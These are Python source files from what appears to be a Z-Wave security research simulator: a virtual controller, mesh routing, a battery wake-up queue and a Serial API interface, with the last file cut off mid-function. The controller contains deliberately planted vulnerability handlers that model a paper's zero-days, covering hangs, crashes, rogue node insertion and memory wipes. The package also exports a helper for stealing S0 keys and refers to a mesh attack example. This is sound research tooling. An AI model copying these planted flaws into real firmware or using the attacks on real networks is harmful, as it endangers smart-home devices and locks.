                ack_request=ack_request,
            )
            raw = frame.encode()
            if len(self._tx_cache) < 4096:
                self._tx_cache[key] = raw
        self.stats.responses_sent += 1
        obs.inc("controller.frames_tx")
        self._medium.transmit(self.name, raw, rate_kbaud=100.0)

    def _send_ack(self, frame: ZWaveFrame) -> None:
        self.stats.acked += 1
        obs.inc("controller.acks_tx")
        key = (frame.src, frame.sequence)
        raw = self._ack_cache.get(key)
        if raw is None:
            raw = frame.ack().encode()
            self._ack_cache[key] = raw
        if self.fault_injector is not None:
            delay = self.fault_injector.ack_delay()
            if delay > 0.0:
                self._clock.schedule(
                    delay, lambda: self._medium.transmit(self.name, raw, 100.0)
                )
                return
        self._medium.transmit(self.name, raw, rate_kbaud=100.0)

    # -- receive path -------------------------------------------------------------------

    def _on_receive(self, reception: Reception) -> None:
        if not self._powered:
            return
        self.stats.received += 1
        obs.inc("controller.frames_rx")
        raw = reception.raw

        # MAC parsing one-days live in the validator, so they fire first.
        for quirk in self._mac_quirks:
            if quirk.predicate(raw):
                self._hang(quirk.hang_s)
                self._events.append(
                    TriggeredEvent(self._clock.now, None, quirk.quirk_id, "mac_hang", raw)
                )
                return

        try:
            frame = ZWaveFrame.decode(raw, verify=True)
        except FrameError:
            self.stats.rejected_checksum += 1
            return
        if frame.home_id != self.home_id:
            self.stats.rejected_home_id += 1
            return
        if frame.dst not in (self.node_id, const.BROADCAST_NODE_ID):
            self.stats.rejected_dst += 1
            return
        if frame.is_ack:
            return
        if self.hung:
            self.stats.dropped_while_hung += 1
            return
        if frame.routed:
            # Mesh traffic: only a frame that finished its route is ours;
            # in-flight hops belong to the repeaters.
            from .routing import RoutingHeader

            try:
                header, inner = RoutingHeader.decode(frame.payload)
            except FrameError:
                return
            if not header.complete:
                return
            frame = frame.with_payload(inner)
        if frame.ack_request and not frame.is_broadcast:
            self._send_ack(frame)
        self._process_apl(frame)

    # -- application layer -----------------------------------------------------------------

    def _process_apl(self, frame: ZWaveFrame, encapsulated: bool = False) -> None:
        if not frame.payload:
            return
        if frame.payload == bytes([const.NOP_CMDCL]):
            return  # NOP ping: the MAC ACK already answered it.
        try:
            payload = ApplicationPayload.decode(frame.payload)
        except FrameError:
            return
        self.stats.apl_processed += 1
        obs.inc("controller.apl_rx")

        if is_nif_request(payload):
            self._send(frame.src, encode_nif_report(self.node_info()))
            return

        if self._handle_secure_transport(frame.src, payload):
            return

        self._process_payload(frame.src, payload, encapsulated)

    def _handle_secure_transport(self, src: int, payload: ApplicationPayload) -> bool:
        """Run the well-formed S2/S0 transport protocols.

        Malformed transport frames (e.g. a sequence-less NONCE_GET — bug
        #06's trigger) are deliberately NOT consumed here: the vulnerable
        dispatch below gets them, exactly as in the real firmware.
        """
        if payload.cmdcl not in TRANSPORT_CMDCLS:
            return False
        return self._s2m.handle(src, payload) or self._s0m.handle(src, payload)

    def _deliver_secure_inner(self, src: int, inner: ApplicationPayload) -> None:
        """A decapsulated payload enters ordinary application processing."""
        self._process_payload(src, inner, encapsulated=True)

    def _process_payload(
        self, src: int, payload: ApplicationPayload, encapsulated: bool, depth: int = 0
    ) -> None:
        self._mark_coverage(payload)
        ctx = TriggerContext(
            cmdcl=payload.cmdcl,
            cmd=payload.cmd,
            params=payload.params,
            encapsulated=encapsulated,
            supported_cmdcls=self._supported,
        )
        for bug in self._zero_days_by_cmdcl.get(payload.cmdcl, ()):
            if bug.triggered_by(ctx):
                self._apply_effect(bug, ctx, src, payload)
                return

        if payload.cmdcl not in self._supported_set:
            self.stats.apl_ignored_unsupported += 1
            return
        if depth < 2 and self._handle_encapsulation(src, payload, encapsulated, depth):
            return
        if self._handle_stateful(src, payload):
            return
        self._respond_normally(src, payload)

    def _mark_coverage(self, payload: ApplicationPayload) -> None:
        """Record one CMDCL×CMD coverage-bitmap hit for a dispatched payload.

        Only coordinates the controller's own registry defines are ever
        marked (unknown classes and undefined commands degrade to the
        class- or nothing-level), so the bitmap can never claim phantom
        coverage of a (cmdcl, cmd) pair the specification lacks.
        """
        collector = obs.active_collector()
        if collector is None:
            return
        cls = self._registry.get(payload.cmdcl)
        if cls is None:
            return
        if payload.cmd is not None and cls.command(payload.cmd) is not None:
            collector.cover(payload.cmdcl, payload.cmd)
        else:
            collector.cover(payload.cmdcl)

    def _handle_encapsulation(
        self, src: int, payload: ApplicationPayload, encapsulated: bool, depth: int
    ) -> bool:
        """Unwrap the plaintext transport encapsulations.

        SUPERVISION (0x6C), CRC_16_ENCAP (0x56) and MULTI_CHANNEL
        (0x60/0x0D) all wrap an inner application command; the inner
        payload re-enters ordinary processing, bounded to two levels of
        nesting like real firmware.
        """
        params = payload.params
        if payload.cmdcl == 0x6C and payload.cmd == 0x01:
            # SUPERVISION_GET: session | length | inner...
            if len(params) < 2:
                return False
            session = params[0] & 0x3F
            inner_bytes = params[2:]
            status = 0x00  # NO_SUPPORT
            if len(inner_bytes) >= 2:
                try:
                    inner = ApplicationPayload.decode(inner_bytes)
                except FrameError:
                    inner = None
                if inner is not None and inner.cmdcl in self._supported_set:
                    self._process_payload(src, inner, encapsulated, depth + 1)
                    status = 0xFF  # SUCCESS
            self._send(
                src, ApplicationPayload(0x6C, 0x02, bytes([session, status, 0x00]))
            )
            return True
        if payload.cmdcl == 0x56 and payload.cmd == 0x01:
            # CRC_16_ENCAP: inner... | crc16 (over CMDCL..inner).
            if len(params) < 4:
                return False
            inner_bytes, crc = params[:-2], params[-2:]
            covered = bytes([payload.cmdcl, payload.cmd]) + inner_bytes
            if crc16(covered) != int.from_bytes(crc, "big"):
                self.stats.rejected_checksum += 1
                return True  # consumed: bad integrity, silently dropped
            try:
                inner = ApplicationPayload.decode(inner_bytes)
            except FrameError:
                return True
            self._process_payload(src, inner, encapsulated, depth + 1)
            return True
        if payload.cmdcl == 0x60 and payload.cmd == 0x0D:
            # MULTI_CHANNEL_CMD_ENCAP: src endpoint | dst endpoint | inner.
            if len(params) < 4:
                return False
            try:
                inner = ApplicationPayload.decode(params[2:])
            except FrameError:
                return True
            self._process_payload(src, inner, encapsulated, depth + 1)
            return True
        return False

    def _handle_stateful(self, src: int, payload: ApplicationPayload) -> bool:
        """Stateful handlers for the classes with real firmware storage.

        ASSOCIATION (0x85) maintains the group membership table and
        CONFIGURATION (0x70) the parameter store; both validate their
        inputs properly — these are the *well-implemented* parts of the
        firmware, in contrast to the planted Table III handlers.
        """
        if payload.cmdcl == 0x85 and payload.cmd is not None:
            return self._handle_association(src, payload)
        if payload.cmdcl == 0x70 and payload.cmd is not None:
            return self._handle_configuration(src, payload)
        return False

    def _handle_association(self, src: int, payload: ApplicationPayload) -> bool:
        params = payload.params
        if payload.cmd == 0x01 and len(params) >= 2:  # ASSOCIATION_SET
            group, member = params[0], params[1]
            if 1 <= group <= 5 and 1 <= member <= 232:
                members = self.associations.setdefault(group, [])
                if member not in members and len(members) < 8:
                    members.append(member)
            return True
        if payload.cmd == 0x02 and len(params) >= 1:  # ASSOCIATION_GET
            group = params[0]
            members = self.associations.get(group, [])
            body = bytes([group, 8, 0]) + bytes(members)
            self._send(src, ApplicationPayload(0x85, 0x03, body))
            return True
        if payload.cmd == 0x04 and len(params) >= 2:  # ASSOCIATION_REMOVE
            group, member = params[0], params[1]
            members = self.associations.get(group)
            if members and member in members:
                members.remove(member)
            return True
        if payload.cmd == 0x05:  # GROUPINGS_GET
            self._send(
                src, ApplicationPayload(0x85, 0x06, bytes([len(self.associations) or 1]))
            )
            return True
        return False

    def _handle_configuration(self, src: int, payload: ApplicationPayload) -> bool:
        params = payload.params
        if payload.cmd == 0x04 and len(params) >= 3:  # CONFIGURATION_SET
            number, size = params[0], params[1]
            if size in (1, 2, 4) and len(params) >= 2 + size:
                value = int.from_bytes(params[2 : 2 + size], "big")
                self.config_params[number] = value
            return True
        if payload.cmd == 0x05 and len(params) >= 1:  # CONFIGURATION_GET
            number = params[0]
            value = self.config_params.get(number, 0)
            body = bytes([number, 0x01, value & 0xFF])
            self._send(src, ApplicationPayload(0x70, 0x06, body))
            return True
        return False

    def _respond_normally(self, src: int, payload: ApplicationPayload) -> None:
        """Well-implemented handling of a supported class.

        GET-kind commands earn the matching REPORT; anything else earns an
        APPLICATION_BUSY so active probing (validation testing) always sees
        *some* application-level response from a supported class.
        """
        cls = self._registry.get(payload.cmdcl)
        cmd = cls.command(payload.cmd) if (cls and payload.cmd is not None) else None
        if cls is not None and cmd is not None:
            # Surface every well-formed application command to the attached
            # host adapters (Serial API callbacks, OTA drivers, ...).
            for listener in self.apl_listeners:
                listener(src, payload)
            if cmd.kind is CommandKind.GET:
                response = self._report_cache.get(cls.id)
                if cls.id not in self._report_cache:
                    report = next(
                        (c for c in cls.commands if c.kind is CommandKind.REPORT),
                        None,
                    )
                    response = (
                        None
                        if report is None
                        else ApplicationPayload(
                            cls.id,
                            report.id,
                            bytes(p.legal_values()[0] for p in report.params),
                        )
                    )
                    self._report_cache[cls.id] = response
                if response is not None:
                    self._send(src, response)
                    return
            elif cmd.kind in (CommandKind.REPORT, CommandKind.NOTIFICATION):
                # Unsolicited device status: consumed, surfaced to the host
                # application, never answered over the air.
                if self.host is not None:
                    self.host.notify(
                        self._clock.now,
                        f"node {src} reported {cls.name}/{cmd.name}",
                    )
                return
        self._send(src, _BUSY_PAYLOAD)

    # -- effects ---------------------------------------------------------------------------

    def _hang(self, duration: float) -> None:
        self._hang_until = max(self._hang_until, self._clock.now + duration)

    def _apply_effect(
        self,
        bug: Vulnerability,
        ctx: TriggerContext,
        src: int,
        payload: ApplicationPayload,
    ) -> None:
        self._events.append(
            TriggeredEvent(
                self._clock.now, bug.bug_id, None, bug.effect.value, payload.encode()
            )
        )
        if bug.effect is EffectType.CONTROLLER_HANG:
            self._hang(bug.duration_s or 0.0)
        elif bug.effect is EffectType.HOST_CRASH:
            if self.host is not None:
                self.host.crash(self._clock.now, f"bug #{bug.bug_id:02d}")
        elif bug.effect is EffectType.HOST_DOS:
            if self.host is not None:
                self.host.deny_service(self._clock.now, f"bug #{bug.bug_id:02d}")
        else:
            self._apply_memory_effect(bug, ctx)

    def _resolve_target(self, node_id: int) -> Optional[int]:
        """The buggy NVM indexer: unknown ids fall back to array slot zero."""
        if node_id in self.nvm:
            return node_id
        ids = self.nvm.node_ids()
        return ids[0] if ids else None

    def _apply_memory_effect(self, bug: Vulnerability, ctx: TriggerContext) -> None:
        requested = ctx.param(0, default=0)
        device_class = ctx.param(4, default=GenericDeviceClass.BINARY_SWITCH)
        if bug.effect is EffectType.MEMORY_MODIFY:
            target = self._resolve_target(requested)
            if target is not None:
                # Figure 8: the lock's record degrades to a routing slave.
                self.nvm.update(
                    target,
                    basic=BasicDeviceClass.ROUTING_SLAVE,
                    generic=device_class if 0 < device_class <= 0xFF else 0x10,
                    secure=False,
                    granted_keys=0x00,
                )
        elif bug.effect is EffectType.MEMORY_INSERT:
            # Figure 9: rogue controller nodes appear out of thin air.
            rogue_id = requested
            if not 1 <= rogue_id <= 232 or rogue_id == self.node_id or rogue_id in self.nvm:
                rogue_id = self._free_node_id()
            if rogue_id is not None:
                self.nvm.raw_write(
                    NodeRecord(
                        node_id=rogue_id,
                        basic=BasicDeviceClass.STATIC_CONTROLLER,
                        generic=GenericDeviceClass.STATIC_CONTROLLER,
                        name="rogue",
                    )
                )
        elif bug.effect is EffectType.MEMORY_REMOVE:
            target = self._resolve_target(requested)
            if target is not None:
                self.nvm.raw_delete(target)
        elif bug.effect is EffectType.MEMORY_OVERWRITE:
            # Figure 11: the device table becomes a page of fakes.
            fakes = [
                NodeRecord(node_id=fake_id, generic=device_class if device_class > 0 else 0x10, name="fake")
                for fake_id in (10, 20, 30, 200)
            ]
            self.nvm.raw_overwrite_all(fakes)
        elif bug.effect is EffectType.MEMORY_WAKEUP_CLEAR:
            target = self._resolve_target(requested)
            cleared = target is not None and self.nvm.raw_clear_wakeup(target)
            if not cleared:
                for node_id in self.nvm.node_ids():
                    if self.nvm.raw_clear_wakeup(node_id):
                        break
        else:  # pragma: no cover - exhaustive over MEMORY_EFFECTS
            raise SimulatorError(f"unhandled memory effect {bug.effect}")

    def _free_node_id(self) -> Optional[int]:
        for candidate in range(200, 233):
            if candidate != self.node_id and candidate not in self.nvm:
                return candidate
        return None


def _default_region():
    from ..zwave.constants import Region

    return Region.US
