"""Device simulator: virtual controllers, slaves, hosts and the testbed.

Substitutes for the paper's nine real Table II devices (see DESIGN.md);
the fifteen Table III zero-days are planted in the controller firmware as
trigger-predicate + effect models.
"""

from .controller import ControllerStats, TriggeredEvent, VirtualController
from .host import HostKind, HostProgram, HostState
from .battery import BatterySensor, WakeupQueue
from .ota import FirmwareImage, FirmwareSender, OtaCapableSensor
from .inclusion import (
    ExclusionCeremony,
    InclusionCeremony,
    InclusionResult,
    JoiningDevice,
    replicate_to_secondary,
    SmartStartList,
    steal_s0_key_from_captures,
)
from .routing import MeshRepeater, RoutingHeader, make_routed_frame, unwrap_routed
from .serialapi import PCControllerClient, SerialApiChip, SerialFrame, SerialLink, attach_pc_controller
from .transport import S0Messaging, S2Messaging, TransportStats
from .memory import MemoryChange, NodeRecord, NodeTable
from .slave import VirtualBinarySwitch, VirtualDoorLock, VirtualSlave
from .testbed import (
    CONTROLLER_IDS,
    DeviceProfile,
    LISTED_15,
    LISTED_17,
    LOCK_NODE_ID,
    PROFILES,
    SWITCH_NODE_ID,
    SystemUnderTest,
    build_sut,
    supported_cmdcls,
)
from .vulnerabilities import (
    DEVICE_MAC_QUIRKS,
    EffectType,
    MAC_QUIRK_CATALOG,
    MacQuirk,
    RootCause,
    TriggerContext,
    Vulnerability,
    ZERO_DAYS,
    match_zero_days,
    zero_day_by_id,
)

__all__ = [
    "build_sut",
    "CONTROLLER_IDS",
    "attach_pc_controller",
    "BatterySensor",
    "FirmwareImage",
    "FirmwareSender",
    "OtaCapableSensor",
    "ExclusionCeremony",
    "replicate_to_secondary",
    "SmartStartList",
    "WakeupQueue",
    "InclusionCeremony",
    "InclusionResult",
    "JoiningDevice",
    "make_routed_frame",
    "MeshRepeater",
    "PCControllerClient",
    "RoutingHeader",
    "SerialApiChip",
    "SerialFrame",
    "SerialLink",
    "unwrap_routed",
    "S0Messaging",
    "S2Messaging",
    "steal_s0_key_from_captures",
    "TransportStats",
    "ControllerStats",
    "DEVICE_MAC_QUIRKS",
    "DeviceProfile",
    "EffectType",
    "HostKind",
    "HostProgram",
    "HostState",
    "LISTED_15",
    "LISTED_17",
    "LOCK_NODE_ID",
    "MAC_QUIRK_CATALOG",
    "MacQuirk",
    "match_zero_days",
    "MemoryChange",
    "NodeRecord",
    "NodeTable",
    "PROFILES",
    "RootCause",
    "supported_cmdcls",
    "SWITCH_NODE_ID",
    "SystemUnderTest",
    "TriggerContext",
    "TriggeredEvent",
    "VirtualBinarySwitch",
    "VirtualController",
    "VirtualDoorLock",
    "VirtualSlave",
    "Vulnerability",
    "zero_day_by_id",
    "ZERO_DAYS",
]
