"""Mesh routing: routed singlecast frames and repeater nodes.

Z-Wave is "a low bandwidth, low-power *mesh* protocol" (Section II-A): a
frame whose sender cannot reach the destination directly travels through
up to four repeaters, carried by a routing header that leads the
application payload when the frame-control routed flag is set::

    APL' = [flags | hop] [repeater_count] [repeater_1..n] [real APL]

``flags`` bit 7 distinguishes the outgoing leg from the returned ACK leg;
the low nibble is the current hop index.  Repeaters relay frames whose
current hop names them; the destination processes the inner payload once
the hop index reaches the repeater count.

This gives the threat model a longer arm: an attacker parked beyond the
controller's radio horizon can still deliver the Table III payloads by
bouncing them off any listening repeater (see
``examples/mesh_attack.py``).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional, Tuple

from ..errors import FrameError
from ..radio.clock import SimClock
from ..radio.medium import RadioMedium, Reception
from ..zwave.constants import Region
from ..zwave.frame import ZWaveFrame

#: Maximum repeaters per route (the G.9959 limit).
MAX_REPEATERS = 4

_FLAG_OUTGOING = 0x80
_HOP_MASK = 0x0F


@dataclass(frozen=True)
class RoutingHeader:
    """The routing prefix carried by a routed frame."""

    repeaters: Tuple[int, ...]
    hop_index: int = 0
    outgoing: bool = True

    def __post_init__(self) -> None:
        if not 1 <= len(self.repeaters) <= MAX_REPEATERS:
            raise FrameError(
                f"route must name 1..{MAX_REPEATERS} repeaters, got {len(self.repeaters)}"
            )
        if not 0 <= self.hop_index <= len(self.repeaters):
            raise FrameError("hop index outside the route")
        if any(not 1 <= r <= 232 for r in self.repeaters):
            raise FrameError("repeater node id out of range")

    @property
    def complete(self) -> bool:
        """Whether the frame has traversed every repeater."""
        return self.hop_index >= len(self.repeaters)

    @property
    def current_repeater(self) -> Optional[int]:
        if self.complete:
            return None
        return self.repeaters[self.hop_index]

    def advanced(self) -> "RoutingHeader":
        return RoutingHeader(self.repeaters, self.hop_index + 1, self.outgoing)

    def encode(self) -> bytes:
        flags = (_FLAG_OUTGOING if self.outgoing else 0x00) | (self.hop_index & _HOP_MASK)
        return bytes([flags, len(self.repeaters)]) + bytes(self.repeaters)

    @classmethod
    def decode(cls, data: bytes) -> Tuple["RoutingHeader", bytes]:
        """Parse a routing header; returns (header, inner payload)."""
        if len(data) < 2:
            raise FrameError("routed frame too short for a routing header")
        flags, count = data[0], data[1]
        if not 1 <= count <= MAX_REPEATERS:
            raise FrameError(f"invalid repeater count {count}")
        if len(data) < 2 + count:
            raise FrameError("routing header truncated")
        repeaters = tuple(data[2 : 2 + count])
        return (
            cls(
                repeaters=repeaters,
                hop_index=flags & _HOP_MASK,
                outgoing=bool(flags & _FLAG_OUTGOING),
            ),
            data[2 + count :],
        )


def make_routed_frame(
    home_id: int,
    src: int,
    dst: int,
    route: Tuple[int, ...],
    payload: bytes,
    sequence: int = 0,
) -> ZWaveFrame:
    """Build the first-hop frame of a routed singlecast."""
    header = RoutingHeader(repeaters=tuple(route))
    return ZWaveFrame(
        home_id=home_id,
        src=src,
        dst=dst,
        payload=header.encode() + payload,
        routed=True,
        sequence=sequence,
        ack_request=False,  # routed frames use routed ACKs, modelled off
    )


def unwrap_routed(frame: ZWaveFrame) -> Tuple[Optional[RoutingHeader], bytes]:
    """Return (routing header, inner APL) — header ``None`` if not routed."""
    if not frame.routed:
        return None, frame.payload
    header, inner = RoutingHeader.decode(frame.payload)
    return header, inner


class MeshRepeater:
    """An always-listening node that relays routed frames.

    Real repeaters are just mains-powered slaves; this class models only
    the relay function, which is all the mesh substrate needs.
    """

    def __init__(
        self,
        name: str,
        home_id: int,
        node_id: int,
        clock: SimClock,
        medium: RadioMedium,
        position: Tuple[float, float],
    ):
        self.name = name
        self.home_id = home_id
        self.node_id = node_id
        self._clock = clock
        self._medium = medium
        self.frames_relayed = 0
        medium.attach(name, position, region=Region.US, callback=self._on_receive)

    def _on_receive(self, reception: Reception) -> None:
        try:
            frame = ZWaveFrame.decode(reception.raw, verify=True)
        except FrameError:
            return
        if frame.home_id != self.home_id or not frame.routed:
            return
        try:
            header, inner = RoutingHeader.decode(frame.payload)
        except FrameError:
            return
        if header.current_repeater != self.node_id:
            return
        relayed = ZWaveFrame(
            home_id=frame.home_id,
            src=frame.src,
            dst=frame.dst,
            payload=header.advanced().encode() + inner,
            routed=True,
            sequence=frame.sequence,
            ack_request=False,
        )
        self.frames_relayed += 1
        self._medium.transmit(self.name, relayed.encode(), reception.rate_kbaud)
