"""Battery-powered (sleeping) devices and the controller's wake-up queue.

Battery devices keep their radio off and wake on the interval stored in
the controller's NVM, announcing themselves with a WAKE_UP_NOTIFICATION;
the controller then flushes any commands it queued while the device slept
and ends the window with WAKE_UP_NO_MORE_INFORMATION semantics.

This is the machinery bug #12 destroys: "Remove the device's wakeup
interval value … the network becomes unresponsive, requiring manual
intervention."  With the interval wiped from the node record, the
controller no longer knows the device ever wakes, stops queueing for it,
and the device becomes permanently unreachable — the concrete meaning of
that Table III row's *Infinite* duration.
"""

from __future__ import annotations

from collections import deque
from typing import Deque, Dict, List

from ..zwave.application import ApplicationPayload
from ..zwave.nif import GenericDeviceClass
from .controller import VirtualController
from .slave import VirtualSlave

#: WAKE_UP command identifiers (class 0x84).
CMD_INTERVAL_SET = 0x04
CMD_NOTIFICATION = 0x07

#: How long a woken device keeps its radio on, in seconds.
DEFAULT_AWAKE_WINDOW = 10.0


class BatterySensor(VirtualSlave):
    """A sleeping sensor: radio off except during wake windows."""

    GENERIC_CLASS = GenericDeviceClass.SENSOR_BINARY
    LISTED_CMDCLS = (0x20, 0x30, 0x80, 0x84, 0x86)

    def __init__(
        self,
        *args,
        wakeup_interval: float = 600.0,
        awake_window: float = DEFAULT_AWAKE_WINDOW,
        **kwargs,
    ):
        super().__init__(*args, **kwargs)
        self.wakeup_interval = wakeup_interval
        self.awake_window = awake_window
        self.awake = False
        self.wakeups = 0
        self.commands_received: List[bytes] = []
        self._medium.set_enabled(self.name, False)  # born asleep
        self._clock.schedule(self.wakeup_interval, self._wake)

    # -- the sleep/wake cycle ---------------------------------------------------

    def _wake(self) -> None:
        self.awake = True
        self.wakeups += 1
        self._medium.set_enabled(self.name, True)
        self._send(self.controller_id, ApplicationPayload(0x84, CMD_NOTIFICATION, b""))
        self._clock.schedule(self.awake_window, self._sleep)
        self._clock.schedule(self.wakeup_interval, self._wake)

    def _sleep(self) -> None:
        self.awake = False
        self._medium.set_enabled(self.name, False)

    def report_payload(self) -> ApplicationPayload:
        return ApplicationPayload(0x30, 0x03, b"\x00")

    def handle_command(self, frame, payload: ApplicationPayload) -> None:
        self.commands_received.append(payload.encode())
        if payload.cmdcl == 0x84 and payload.cmd == CMD_INTERVAL_SET:
            if len(payload.params) >= 3:
                seconds = int.from_bytes(payload.params[:3], "big")
                if seconds > 0:
                    self.wakeup_interval = float(seconds)


class WakeupQueue:
    """The controller-side mailbox for sleeping devices.

    Commands addressed to a battery node wait here until its
    WAKE_UP_NOTIFICATION arrives.  The queue *refuses* targets whose node
    record carries no wake-up interval — a controller that does not know
    a device ever wakes cannot schedule anything for it, which is how the
    bug #12 memory wipe strands the device.
    """

    def __init__(self, controller: VirtualController):
        self._controller = controller
        self._pending: Dict[int, Deque[ApplicationPayload]] = {}
        self.delivered = 0
        self.rejected = 0
        controller.apl_listeners.append(self._on_report)

    def pending_for(self, node_id: int) -> int:
        return len(self._pending.get(node_id, ()))

    def queue_command(self, node_id: int, payload: ApplicationPayload) -> bool:
        """Queue *payload* for a sleeping node; ``False`` when impossible."""
        record = self._controller.nvm.get(node_id)
        if record is None or record.wakeup_interval is None:
            self.rejected += 1
            return False
        self._pending.setdefault(node_id, deque()).append(payload)
        return True

    def _on_report(self, src: int, payload: ApplicationPayload) -> None:
        if payload.cmdcl != 0x84 or payload.cmd != CMD_NOTIFICATION:
            return
        queue = self._pending.get(src)
        while queue:
            self._controller.send_command(src, queue.popleft())
            self.delivered += 1
