"""The Serial API: how host software drives a USB-stick controller.

The paper's D1-D5 are USB interface controllers operated through the
"Z-Wave PC Controller program" on a Windows laptop.  That program speaks
the Silicon Labs **Serial API** over a UART: framed request/response
exchanges (SOF | LEN | TYPE | FUNC_ID | data | checksum, with single-byte
ACK/NAK/CAN flow control) plus unsolicited ``APPLICATION_COMMAND_HANDLER``
callbacks carrying received radio payloads.

This module implements that interface against :class:`VirtualController`:

* :class:`SerialFrame` — the wire codec with its XOR checksum;
* :class:`SerialLink` — an in-memory duplex byte pipe (the virtual UART);
* :class:`SerialApiChip` — the controller-side command processor;
* :class:`PCControllerClient` — the host-side convenience API the
  examples use to "look at the PC Controller program's node list" (the
  view the paper's Figures 8-11 screenshots show).
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass
from typing import Deque, Dict, List, Optional, Tuple

from ..errors import SimulatorError
from ..zwave.application import ApplicationPayload
from .controller import VirtualController

#: Framing bytes.
SOF = 0x01
ACK = 0x06
NAK = 0x15
CAN = 0x18

#: Frame types.
TYPE_REQUEST = 0x00
TYPE_RESPONSE = 0x01

#: Serial API function identifiers (the classic subset).
FUNC_GET_INIT_DATA = 0x02
FUNC_APPLICATION_COMMAND_HANDLER = 0x04
FUNC_SOFT_RESET = 0x08
FUNC_SEND_DATA = 0x13
FUNC_GET_VERSION = 0x15
FUNC_MEMORY_GET_ID = 0x20
FUNC_GET_NODE_PROTOCOL_INFO = 0x41
FUNC_REMOVE_FAILED_NODE = 0x61

#: The node bitmask in GET_INIT_DATA covers 232 nodes in 29 bytes.
NODE_BITMASK_LENGTH = 29


def _checksum(body: bytes) -> int:
    """Serial API checksum: XOR of LEN..data seeded with 0xFF."""
    acc = 0xFF
    for byte in body:
        acc ^= byte
    return acc


@dataclass(frozen=True)
class SerialFrame:
    """One framed Serial API message."""

    frame_type: int
    func_id: int
    data: bytes = b""

    def encode(self) -> bytes:
        body = bytes([len(self.data) + 3, self.frame_type, self.func_id]) + self.data
        return bytes([SOF]) + body + bytes([_checksum(body)])

    @classmethod
    def decode(cls, raw: bytes) -> "SerialFrame":
        if len(raw) < 5 or raw[0] != SOF:
            raise SimulatorError("malformed serial frame: bad SOF or length")
        length = raw[1]
        if length + 2 != len(raw):
            raise SimulatorError("malformed serial frame: LEN mismatch")
        body, checksum = raw[1:-1], raw[-1]
        if _checksum(body) != checksum:
            raise SimulatorError("malformed serial frame: checksum mismatch")
        return cls(frame_type=raw[2], func_id=raw[3], data=bytes(raw[4:-1]))


class SerialLink:
    """An in-memory duplex UART: two byte queues."""

    def __init__(self):
        self._to_chip: Deque[int] = deque()
        self._to_host: Deque[int] = deque()

    # Host side -----------------------------------------------------------------
    def host_write(self, data: bytes) -> None:
        self._to_chip.extend(data)

    def host_read_all(self) -> bytes:
        out = bytes(self._to_host)
        self._to_host.clear()
        return out

    # Chip side -----------------------------------------------------------------
    def chip_write(self, data: bytes) -> None:
        self._to_host.extend(data)

    def chip_read_all(self) -> bytes:
        out = bytes(self._to_chip)
        self._to_chip.clear()
        return out


def _split_stream(stream: bytes) -> Tuple[List[bytes], List[int]]:
    """Split a UART byte stream into frames and single-byte controls."""
    frames: List[bytes] = []
    controls: List[int] = []
    index = 0
    while index < len(stream):
        byte = stream[index]
        if byte in (ACK, NAK, CAN):
            controls.append(byte)
            index += 1
            continue
        if byte == SOF and index + 1 < len(stream):
            length = stream[index + 1]
            end = index + length + 2
            if end <= len(stream):
                frames.append(stream[index:end])
                index = end
                continue
        index += 1  # resynchronise on garbage
    return frames, controls


class SerialApiChip:
    """The controller-side Serial API command processor."""

    VERSION_STRING = b"Z-Wave 7.18\x00"
    LIBRARY_TYPE = 0x07  # bridge controller library

    def __init__(self, controller: VirtualController, link: SerialLink):
        self._controller = controller
        self._link = link
        self._pending_callbacks: Deque[SerialFrame] = deque()
        controller.apl_listeners.append(self._on_radio_payload)
        self.requests_handled = 0
        self.naks_sent = 0

    # -- unsolicited path ------------------------------------------------------------

    def _on_radio_payload(self, src: int, payload: ApplicationPayload) -> None:
        apl = payload.encode()
        data = bytes([0x00, src, len(apl)]) + apl
        self._pending_callbacks.append(
            SerialFrame(TYPE_REQUEST, FUNC_APPLICATION_COMMAND_HANDLER, data)
        )

    # -- request processing -----------------------------------------------------------

    def process(self) -> None:
        """Drain the host->chip queue, answer requests, flush callbacks."""
        stream = self._link.chip_read_all()
        frames, _controls = _split_stream(stream)
        for raw in frames:
            try:
                frame = SerialFrame.decode(raw)
            except SimulatorError:
                self._link.chip_write(bytes([NAK]))
                self.naks_sent += 1
                continue
            self._link.chip_write(bytes([ACK]))
            response = self._dispatch(frame)
            if response is not None:
                self._link.chip_write(response.encode())
            self.requests_handled += 1
        while self._pending_callbacks:
            self._link.chip_write(self._pending_callbacks.popleft().encode())

    def _dispatch(self, frame: SerialFrame) -> Optional[SerialFrame]:
        if frame.frame_type != TYPE_REQUEST:
            return None
        controller = self._controller
        if frame.func_id == FUNC_GET_VERSION:
            data = self.VERSION_STRING + bytes([self.LIBRARY_TYPE])
            return SerialFrame(TYPE_RESPONSE, FUNC_GET_VERSION, data)
        if frame.func_id == FUNC_MEMORY_GET_ID:
            data = controller.home_id.to_bytes(4, "big") + bytes([controller.node_id])
            return SerialFrame(TYPE_RESPONSE, FUNC_MEMORY_GET_ID, data)
        if frame.func_id == FUNC_GET_INIT_DATA:
            bitmask = bytearray(NODE_BITMASK_LENGTH)
            for node_id in controller.nvm.node_ids():
                bitmask[(node_id - 1) // 8] |= 1 << ((node_id - 1) % 8)
            own = controller.node_id
            bitmask[(own - 1) // 8] |= 1 << ((own - 1) % 8)
            data = bytes([0x05, 0x00, NODE_BITMASK_LENGTH]) + bytes(bitmask)
            return SerialFrame(TYPE_RESPONSE, FUNC_GET_INIT_DATA, data)
        if frame.func_id == FUNC_GET_NODE_PROTOCOL_INFO:
            if not frame.data:
                return SerialFrame(TYPE_RESPONSE, FUNC_GET_NODE_PROTOCOL_INFO, bytes(6))
            record = controller.nvm.get(frame.data[0])
            if record is None:
                data = bytes(6)
            else:
                capability = 0x80 if record.listening else 0x00
                security = record.granted_keys if record.secure else 0x00
                data = bytes(
                    [capability, security, 0x00, record.basic, record.generic, record.specific]
                )
            return SerialFrame(TYPE_RESPONSE, FUNC_GET_NODE_PROTOCOL_INFO, data)
        if frame.func_id == FUNC_SEND_DATA:
            if len(frame.data) < 2:
                return SerialFrame(TYPE_RESPONSE, FUNC_SEND_DATA, bytes([0x00]))
            dst, length = frame.data[0], frame.data[1]
            apl = frame.data[2 : 2 + length]
            if apl:
                try:
                    controller.send_command(dst, ApplicationPayload.decode(apl))
                    return SerialFrame(TYPE_RESPONSE, FUNC_SEND_DATA, bytes([0x01]))
                except Exception:
                    pass
            return SerialFrame(TYPE_RESPONSE, FUNC_SEND_DATA, bytes([0x00]))
        if frame.func_id == FUNC_SOFT_RESET:
            controller.power_cycle()
            return None  # soft reset has no response frame
        if frame.func_id == FUNC_REMOVE_FAILED_NODE:
